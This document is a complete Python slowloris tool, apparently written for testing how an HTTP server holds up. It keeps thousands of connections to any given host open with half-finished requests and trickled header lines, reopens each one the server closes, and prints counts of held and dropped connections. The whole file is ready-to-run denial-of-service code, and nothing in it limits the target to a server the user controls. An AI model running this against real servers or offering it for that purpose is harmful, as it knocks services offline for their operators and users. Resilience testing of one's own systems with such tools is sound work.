#!/usr/bin/env python3
"""Holds N slowloris connections to an HTTP server, cheaply: each sends an unfinished request
head, then one more header line every INTERVAL seconds, and is reopened when the server closes it
(e.g. with a 408 at its request deadline). One epoll loop, so the attacker itself costs a few
percent of a core and does not starve the load generator it shares a core with (slowhttptest
took 0.4 of a core for 5,000 connections here).

usage: loris.py HOST PORT [N=5000] [INTERVAL=5] [SECONDS=60]
Prints "held=<open now> opened=<total> closed_by_server=<n>" every 5 s and once at the end.
"""
import errno
import selectors
import socket
import sys
import time

host, port = sys.argv[1], int(sys.argv[2])
n = int(sys.argv[3]) if len(sys.argv) > 3 else 5000
interval = float(sys.argv[4]) if len(sys.argv) > 4 else 5.0
seconds = float(sys.argv[5]) if len(sys.argv) > 5 else 60.0

sel = selectors.DefaultSelector()
conns = {}  # socket -> [next time to send, head sent]
opened = closed = 0
HEAD = b"GET /docs/example HTTP/1.1\r\nHost: loris\r\n"


def open_one(now):
    global opened
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    err = s.connect_ex((host, port))
    if err not in (0, errno.EINPROGRESS):
        s.close()
        return
    sel.register(s, selectors.EVENT_READ)
    # The first bytes go out on the first tick after the connect completes.
    conns[s] = [now, False]
    opened += 1


def drop(s):
    sel.unregister(s)
    conns.pop(s, None)
    s.close()


start = time.monotonic()
report = start + 5
ramp = max(1, n // 10)  # open in steps, as a real attack would, without a SYN storm
while True:
    now = time.monotonic()
    if now - start >= seconds:
        break
    for _ in range(min(ramp, n - len(conns))):
        open_one(now)
    for key, _ in sel.select(timeout=0.2):
        s = key.fileobj
        try:
            data = s.recv(4096)
        except BlockingIOError:
            continue
        except OSError:
            data = b""
        if not data:
            closed += 1
            drop(s)
        # Anything the server says (a 408) just waits for its close.
    now = time.monotonic()
    for s, state in list(conns.items()):
        if state[0] > now:
            continue
        try:
            s.send(b"X-a: b\r\n" if state[1] else HEAD)
            state[1] = True
            state[0] = now + interval
        except (BlockingIOError, OSError):
            state[0] = now + 0.2  # not connected yet: try again shortly
    if now >= report:
        print(f"held={len(conns)} opened={opened} closed_by_server={closed}", flush=True)
        report = now + 5
print(f"held={len(conns)} opened={opened} closed_by_server={closed}", flush=True)
